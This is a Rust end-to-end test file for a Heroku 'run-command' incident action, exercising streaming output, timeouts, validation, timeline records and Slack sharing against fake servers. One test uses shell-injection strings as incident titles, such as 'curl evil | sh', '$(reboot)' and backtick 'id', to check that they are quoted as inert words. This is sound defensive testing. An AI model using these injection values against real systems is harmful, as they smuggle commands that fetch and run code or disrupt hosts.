//! Running a command on a one-off dyno from a workflow: the real component in the real host
//! against the fake Heroku (dynos, log sessions) and the fake Slack, over loopback.

use std::time::{Duration, Instant};

use futures_util::StreamExt;
use pulse_e2e::fake_heroku::{Access, FakeHeroku, Script, Side};
use pulse_e2e::fake_slack::FakeSlack;
use pulse_e2e::{Options, TestHost, captured_logs};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use sha2::Digest as _;

/// A host connected to the fake Heroku with `apps` monitored by integration `shop`.
async fn connected(fake: &FakeHeroku, slack: Option<&FakeSlack>, apps: &[&str]) -> TestHost {
    for app in apps {
        fake.add_app(app);
    }
    let options = Options {
        slack: slack.map(|slack| pulse_host::slack::SlackConfig {
            token: Some(slack.token()),
            api_url: slack.api_url(),
        }),
        ..Options::default()
    };
    let host = TestHost::start_with_fake(fake, options).await;
    host.integration("shop", apps).await;
    let (status, page) = host.connect("shop").await;
    assert_eq!(status, StatusCode::OK, "{page}");
    host
}

fn incident(title: &str) -> Value {
    json!({"incident": {
        "id": "INC-7",
        "title": title,
        "severity": "sev1",
        "status": "triggered",
        "services": ["billing", "payments"],
        "url": "https://incidents.example.com/INC-7",
    }})
}

/// What a streamed run answer said: each JSON line, and when it arrived.
struct Streamed {
    status: StatusCode,
    lines: Vec<(Instant, Value)>,
}

impl Streamed {
    fn of_type(&self, kind: &str) -> Vec<&Value> {
        self.lines
            .iter()
            .map(|(_, line)| line)
            .filter(|line| line["type"] == kind)
            .collect()
    }

    fn output(&self) -> String {
        self.of_type("output")
            .iter()
            .map(|line| line["text"].as_str().unwrap())
            .collect()
    }

    fn result(&self) -> &Value {
        let results = self.of_type("result");
        assert_eq!(results.len(), 1, "{:?}", self.lines);
        &results[0]["run"]
    }
}

/// Runs `run-command` through the API and reads the streamed answer to its end; `on_output`
/// sees the first output line as soon as it arrives.
async fn run(
    host: &TestHost,
    params: Value,
    context: Value,
    mut on_output: impl AsyncFnMut(&Value),
) -> Streamed {
    let response = host
        .client
        .post(format!(
            "{}/api/integrations/shop/actions/run-command",
            host.base
        ))
        .bearer_auth(&host.token)
        .json(&json!({"params": params, "context": context}))
        .send()
        .await
        .unwrap();
    let status = response.status();
    let streaming = response
        .headers()
        .get("content-type")
        .is_some_and(|value| value.to_str().unwrap() == "application/x-ndjson");
    if !streaming {
        let body: Value = response.json().await.unwrap();
        return Streamed {
            status,
            lines: vec![(Instant::now(), body)],
        };
    }
    let mut lines = Vec::new();
    let mut pending = Vec::new();
    let mut seen_output = false;
    let mut body = response.bytes_stream();
    while let Some(chunk) = body.next().await {
        pending.extend_from_slice(&chunk.unwrap());
        while let Some(end) = pending.iter().position(|b| *b == b'\n') {
            let line: Value = serde_json::from_slice(&pending[..end]).unwrap();
            pending.drain(..=end);
            if line["type"] == "output" && !seen_output {
                seen_output = true;
                on_output(&line).await;
            }
            lines.push((Instant::now(), line));
        }
    }
    assert!(pending.is_empty(), "the answer ends with a whole line");
    Streamed { status, lines }
}

async fn ignore(_: &Value) {}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

#[tokio::test]
async fn output_streams_to_the_caller_while_the_command_runs() {
    let fake = FakeHeroku::start().await;
    let host = connected(&fake, None, &["billing-api"]).await;
    fake.script_next_dyno(
        Script::printing(&[(0, "starting"), (800, "halfway"), (1600, "done")]).exiting(0, 1700),
    );

    let streamed = run(
        &host,
        json!({"command": "rake diagnose", "app_name": "billing-api"}),
        incident("Checkout is slow"),
        async |_| {
            // The first piece of output is here while the run is still going on.
            let (status, runs) = host.api(Method::GET, "/integrations/shop/runs", None).await;
            assert_eq!(status, StatusCode::OK);
            assert_eq!(runs["runs"][0]["state"], "running", "{runs}");
        },
    )
    .await;
    assert_eq!(streamed.status, StatusCode::OK);
    let started = streamed.of_type("started");
    assert_eq!(started[0]["dyno"], "run.1000");
    assert_eq!(started[0]["command"], "rake diagnose");
    assert_eq!(streamed.output(), "starting\nhalfway\ndone\n");
    let first_output = streamed
        .lines
        .iter()
        .find(|(_, line)| line["type"] == "output")
        .unwrap()
        .0;
    let result_at = streamed.lines.last().unwrap().0;
    assert!(
        result_at.duration_since(first_output) >= Duration::from_millis(800),
        "output arrived as it was written, not at the end"
    );

    let result = streamed.result();
    assert_eq!(result["state"], "finished");
    assert_eq!(result["result"]["exit_status"], 0);
    assert_eq!(result["result"]["timed_out"], false);
    assert_eq!(result["result"]["dyno"], "run.1000");
    assert_eq!(result["result"]["output_bytes"], 22);
    assert_eq!(result["actor"], "admin");
    assert_eq!(result["incident_id"], "INC-7");

    // The dyno was made as asked: detached, a run, the default size and the longest timeout,
    // with the incident in its environment.
    let dynos = fake.dynos();
    assert_eq!(dynos.len(), 1);
    let request = &dynos[0].request;
    assert_eq!(request["attach"], false);
    assert_eq!(request["type"], "run");
    assert_eq!(request["size"], "standard-1X");
    assert_eq!(request["time_to_live"], 1800);
    assert_eq!(request["env"]["INCIDENT_ID"], "INC-7");
    assert_eq!(request["env"]["INCIDENT_TITLE"], "Checkout is slow");
    assert_eq!(request["env"]["INCIDENT_SERVICES"], "billing,payments");

    // The output is kept, and the log stream never saw a token.
    let output = host
        .client
        .get(format!("{}/api/runs/{}/output", host.base, result["id"]))
        .bearer_auth(&host.token)
        .send()
        .await
        .unwrap();
    assert_eq!(output.text().await.unwrap(), "starting\nhalfway\ndone\n");
    let logs: Vec<_> = fake
        .requests()
        .into_iter()
        .filter(|r| r.side == Side::Logs)
        .collect();
    assert!(!logs.is_empty());
    assert!(logs.iter().all(|r| r.header("Authorization").is_none()));
}

#[tokio::test]
async fn exit_statuses_and_timeouts_are_reported() {
    let fake = FakeHeroku::start().await;
    let host = connected(&fake, None, &["billing-api"]).await;

    fake.script_next_dyno(Script::printing(&[(0, "boom")]).exiting(3, 100));
    let streamed = run(
        &host,
        json!({"command": "false", "app_name": "billing-api", "timeout_seconds": 3600}),
        incident("t"),
        ignore,
    )
    .await;
    assert_eq!(streamed.result()["result"]["exit_status"], 3);
    assert_eq!(fake.dynos()[0].request["time_to_live"], 1800, "capped");

    // A command that runs past its timeout is stopped, with its output so far.
    fake.script_next_dyno(Script::printing(&[(0, "waiting forever")]).never_exiting());
    let started = Instant::now();
    let streamed = run(
        &host,
        json!({"command": "sleep infinity", "app_name": "billing-api", "timeout_seconds": 2}),
        incident("t"),
        ignore,
    )
    .await;
    let result = &streamed.result()["result"];
    assert_eq!(result["timed_out"], true, "{result}");
    assert_eq!(result["exit_status"], Value::Null);
    assert_eq!(streamed.output(), "waiting forever\n");
    assert!(started.elapsed() >= Duration::from_secs(2));
    let dyno = &fake.dynos()[1];
    assert!(dyno.stopped, "the dyno was stopped");
    assert_eq!(dyno.request["time_to_live"], 2);
}

#[tokio::test]
async fn an_expiring_log_session_is_reopened_without_repeating_lines() {
    let fake = FakeHeroku::start().await;
    let host = connected(&fake, None, &["billing-api"]).await;
    let mut script = Script::printing(&[(0, "one"), (100, "two"), (300, "three"), (600, "four")]);
    script.session_lines = Some(2);
    fake.script_next_dyno(script);
    let streamed = run(
        &host,
        json!({"command": "count", "app_name": "billing-api"}),
        incident("t"),
        ignore,
    )
    .await;
    assert_eq!(streamed.output(), "one\ntwo\nthree\nfour\n");
    assert_eq!(streamed.result()["result"]["exit_status"], 0);
    let sessions = fake
        .requests()
        .into_iter()
        .filter(|r| r.method == Method::POST && r.uri.ends_with("/log-sessions"))
        .count();
    assert!(sessions >= 2, "the session was reopened ({sessions})");
}

#[tokio::test]
async fn incident_values_reach_the_dyno_as_one_inert_word() {
    let fake = FakeHeroku::start().await;
    let host = connected(&fake, None, &["billing-api"]).await;
    let titles = [
        r#"x"; curl evil | sh; ""#,
        "$(reboot)",
        "it's `id` {{ 7 | times: 6 }}",
    ];
    for (i, title) in titles.iter().enumerate() {
        fake.script_next_dyno(Script::default());
        let streamed = run(
            &host,
            json!({
                "command": "notify --title {{ incident.title }} --sev {{ incident.severity | raw }}",
                "app_name": "billing-api",
            }),
            incident(title),
            ignore,
        )
        .await;
        assert_eq!(streamed.status, StatusCode::OK, "{:?}", streamed.lines);
        let command = fake.dynos()[i].request["command"]
            .as_str()
            .unwrap()
            .to_string();
        let words = shlex::split(&command).unwrap();
        assert_eq!(
            words,
            ["notify", "--title", title, "--sev", "sev1"],
            "{command}"
        );
        assert_eq!(streamed.of_type("started")[0]["command"], command);
    }
}

#[tokio::test]
async fn bad_requests_fail_before_any_dyno_is_created() {
    let fake = FakeHeroku::start().await;
    fake.add_app_with("locked", Access::Forbidden);
    let host = connected(&fake, None, &["billing-api"]).await;
    host.put_integration("shop", &["billing-api", "locked"])
        .await;

    let cases = [
        (
            json!({"command": "echo {{ incident.titel }}", "app_name": "billing-api"}),
            StatusCode::UNPROCESSABLE_ENTITY,
            "template",
            "incident.titel",
        ),
        (
            json!({"command": "ls", "app_name": "payments"}),
            StatusCode::FORBIDDEN,
            "not_permitted",
            "payments is not one of the integration's monitored apps",
        ),
        (
            json!({"command": "ls", "app_name": "billing-api", "size": "performance-l"}),
            StatusCode::BAD_REQUEST,
            "invalid",
            "standard-1X, standard-2X",
        ),
        (
            json!({"command": "ls", "app_name": "billing-api", "timeout_seconds": 0}),
            StatusCode::BAD_REQUEST,
            "invalid",
            "timeout_seconds must be at least 1",
        ),
        (
            json!({"command": "ls", "app_name": "locked"}),
            StatusCode::FORBIDDEN,
            "not_permitted",
            "the connected account cannot create dynos on locked: check its access",
        ),
    ];
    for (params, status, code, message) in cases {
        let streamed = run(&host, params.clone(), incident("Secret-ish title"), ignore).await;
        let body = &streamed.lines[0].1;
        assert_eq!(streamed.status, status, "{params}: {body}");
        assert_eq!(body["error"]["code"], code, "{body}");
        let text = body["error"]["message"].as_str().unwrap();
        assert!(text.contains(message), "{text}");
        assert!(
            !text.contains("Secret-ish"),
            "no context values in errors: {text}"
        );
    }
    assert!(fake.dynos().is_empty());

    // No incident id, and an integration that is not connected.
    let streamed = run(
        &host,
        json!({"command": "ls", "app_name": "billing-api"}),
        json!({"incident": {"title": "x"}}),
        ignore,
    )
    .await;
    assert_eq!(streamed.status, StatusCode::BAD_REQUEST);
    host.integration("other", &["billing-api"]).await;
    let (status, body) = host
        .api(
            Method::POST,
            "/integrations/other/actions/run-command",
            Some(
                json!({"params": {"command": "ls", "app_name": "billing-api"},
                        "context": incident("t")}),
            ),
        )
        .await;
    assert_eq!(status, StatusCode::CONFLICT, "{body}");
    assert_eq!(body["error"]["code"], "not_connected");
    assert!(fake.dynos().is_empty());
}

#[tokio::test]
async fn a_new_app_without_a_release_is_retried_briefly() {
    let fake = FakeHeroku::start().await;
    let host = connected(&fake, None, &["billing-api"]).await;
    fake.conflict_next_dynos(1);
    fake.script_next_dyno(Script::printing(&[(0, "ok")]));
    let streamed = run(
        &host,
        json!({"command": "ls", "app_name": "billing-api"}),
        incident("t"),
        ignore,
    )
    .await;
    assert_eq!(streamed.output(), "ok\n");
    let creates: Vec<u16> = fake
        .requests()
        .iter()
        .filter(|r| r.method == Method::POST && r.uri.ends_with("/dynos"))
        .map(|r| r.status)
        .collect();
    assert_eq!(creates, [409, 201]);
}

#[tokio::test]
async fn the_timeline_records_a_run_only_when_asked() {
    let fake = FakeHeroku::start().await;
    let host = connected(&fake, None, &["billing-api"]).await;

    fake.script_next_dyno(Script::printing(&[(0, "quiet")]));
    run(
        &host,
        json!({"command": "ls", "app_name": "billing-api"}),
        incident("t"),
        ignore,
    )
    .await;
    let (_, timeline) = host
        .api(Method::GET, "/incidents/INC-7/timeline", None)
        .await;
    assert_eq!(timeline["events"], json!([]));

    fake.script_next_dyno(Script::printing(&[(0, "noted")]).exiting(2, 50));
    let streamed = run(
        &host,
        json!({"command": "ls -l", "app_name": "billing-api", "record_timeline": true}),
        incident("t"),
        ignore,
    )
    .await;
    let run_id = streamed.result()["id"].as_i64().unwrap();
    assert_eq!(streamed.result()["result"]["timeline_recorded"], true);
    let (status, timeline) = host
        .api(Method::GET, "/incidents/INC-7/timeline", None)
        .await;
    assert_eq!(status, StatusCode::OK);
    let events = timeline["events"].as_array().unwrap();
    assert_eq!(events.len(), 1, "{timeline}");
    let event = &events[0];
    assert_eq!(event["incident_id"], "INC-7");
    assert_eq!(event["source"], "shop");
    assert_eq!(event["run_id"], run_id);
    assert_eq!(
        event["summary"],
        "Ran `ls -l` on billing-api (run.1001): exited with status 2"
    );
    assert_eq!(event["details"]["app"], "billing-api");
    assert_eq!(event["details"]["dyno"], "run.1001");
    assert_eq!(event["details"]["command"], "ls -l");
    assert_eq!(event["details"]["exit_status"], "2");
    assert_eq!(
        event["output_url"],
        format!("{}/api/runs/{run_id}/output", host.base)
    );
    let (_, other) = host
        .api(Method::GET, "/incidents/INC-8/timeline", None)
        .await;
    assert_eq!(other["events"], json!([]));
}

#[tokio::test]
async fn output_is_shared_in_slack_and_a_failing_channel_is_reported() {
    let fake = FakeHeroku::start().await;
    let slack = FakeSlack::start().await;
    slack.add_channel("C0000OPS", true);
    slack.add_channel("C0000INC", true);
    slack.add_channel("C0000OUT", false);
    let host = connected(&fake, Some(&slack), &["billing-api"]).await;

    fake.script_next_dyno(Script::printing(&[(0, "rows: 42"), (100, "done")]));
    let streamed = run(
        &host,
        json!({
            "command": "psql -c 'select 1'",
            "app_name": "billing-api",
            "slack_channels": ["C0000OPS", "C0000OUT", "C0000INC"],
        }),
        incident("t"),
        ignore,
    )
    .await;
    let shares = &streamed.result()["result"]["shares"];
    assert_eq!(shares[0], json!({"channel": "C0000OPS", "error": null}));
    assert_eq!(shares[2], json!({"channel": "C0000INC", "error": null}));
    assert_eq!(shares[1]["channel"], "C0000OUT");
    let error = shares[1]["error"].as_str().unwrap();
    assert!(
        error.contains("not_in_channel") || error.contains("invite"),
        "{error}"
    );

    let shared = slack.shares();
    let mut channels: Vec<&str> = shared.iter().map(|s| s.channel.as_str()).collect();
    channels.sort();
    assert_eq!(channels, ["C0000INC", "C0000OPS"]);
    for share in &shared {
        assert_eq!(share.bytes.as_deref(), Some(&b"rows: 42\ndone\n"[..]));
        let comment = share.initial_comment.as_deref().unwrap();
        assert!(comment.starts_with("billing-api: `psql -c 'select 1'` exited with status 0"));
    }

    // An empty output is posted as a message.
    fake.script_next_dyno(Script::default());
    run(
        &host,
        json!({"command": "true", "app_name": "billing-api", "slack_channels": ["C0000OPS"]}),
        incident("t"),
        ignore,
    )
    .await;
    let messages = slack.messages();
    assert_eq!(messages.len(), 1);
    assert!(
        messages[0]
            .text
            .starts_with("billing-api: `true` exited with status 0")
    );

    // No Heroku or Slack token in any log line.
    let logs = captured_logs();
    assert!(logs.contains("run finished"));
    let mut secrets = fake.secrets();
    secrets.push(slack.token());
    for secret in secrets {
        assert!(!logs.contains(&secret), "a secret is in the logs");
    }
}

#[tokio::test]
async fn a_large_output_is_shared_whole() {
    let fake = FakeHeroku::start().await;
    let slack = FakeSlack::start().await;
    slack.add_channel("C0000OPS", true);
    let host = connected(&fake, Some(&slack), &["billing-api"]).await;

    // 20 MiB: 327,680 lines of 63 characters and a newline.
    let line = "x".repeat(63);
    let lines = 20 * 1024 * 1024 / 64;
    fake.script_next_dyno(Script {
        bulk: Some((lines, line.clone())),
        ..Script::default()
    });
    let streamed = run(
        &host,
        json!({"command": "dump", "app_name": "billing-api", "slack_channels": ["C0000OPS"]}),
        incident("t"),
        ignore,
    )
    .await;
    let result = &streamed.result()["result"];
    assert_eq!(result["output_bytes"], 20 * 1024 * 1024, "{result}");
    assert_eq!(streamed.output().len(), 20 * 1024 * 1024);
    let shared = slack.shares();
    assert_eq!(shared.len(), 1);
    assert_eq!(shared[0].size, 20 * 1024 * 1024);
    let mut whole = sha2::Sha256::new();
    for _ in 0..lines {
        whole.update(line.as_bytes());
        whole.update(b"\n");
    }
    assert_eq!(shared[0].sha256, hex(&whole.finalize()));
}

#[tokio::test]
async fn the_cli_prints_the_output_and_exits_with_the_status() {
    let fake = FakeHeroku::start().await;
    let host = connected(&fake, None, &["billing-api"]).await;
    fake.script_next_dyno(Script::printing(&[(0, "from the dyno")]).exiting(7, 100));

    let heroku = pulse_e2e::Options::with_fake(&fake).heroku.unwrap();
    let data_dir = host.data_dir();
    let argv = [
        "pulse-host",
        "--data-dir",
        data_dir.to_str().unwrap(),
        "--heroku-api-url",
        &heroku.api_url,
        "--heroku-id-url",
        &heroku.id_url,
        "--heroku-client-id",
        heroku.client_id.as_deref().unwrap(),
        "--heroku-client-secret",
        heroku.client_secret.as_deref().unwrap(),
        "run-command",
        "shop",
        "--app",
        "billing-api",
        "--command",
        "echo {{ incident.title }}",
        "--context",
        r#"{"incident": {"id": "INC-9", "title": "cli run"}}"#,
    ];
    use clap::Parser as _;
    let cli = pulse_host::cli::Cli::try_parse_from(argv).unwrap();
    let mut out = Vec::new();
    let code = pulse_host::cli::run(cli, &mut out).await.unwrap();
    assert_eq!(code, std::process::ExitCode::from(7));
    assert_eq!(String::from_utf8(out).unwrap(), "from the dyno\n");
    assert_eq!(fake.dynos()[0].request["command"], "echo 'cli run'");

    let (_, runs) = host.api(Method::GET, "/integrations/shop/runs", None).await;
    assert_eq!(
        runs["runs"][0]["actor"].as_str().unwrap().split(':').next(),
        Some("cli")
    );
    assert_eq!(runs["runs"][0]["result"]["exit_status"], 7);
}

#[tokio::test]
async fn actions_are_described_for_forms() {
    let fake = FakeHeroku::start().await;
    let host = connected(&fake, None, &["billing-api"]).await;
    let (status, body) = host
        .api(Method::GET, "/integrations/shop/actions", None)
        .await;
    assert_eq!(status, StatusCode::OK);
    let action = &body["actions"][0];
    assert_eq!(action["name"], "run-command");
    assert_eq!(action["title"], "Run Command on Heroku");
    let names: Vec<&str> = action["params"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        [
            "command",
            "app_name",
            "size",
            "timeout_seconds",
            "record_timeline",
            "slack_channels"
        ]
    );
    let size = &action["params"][2];
    assert_eq!(size["kind"], "choice");
    assert_eq!(size["allowed"], json!(["standard-1X", "standard-2X"]));
    assert_eq!(size["default"], "standard-1X");
}
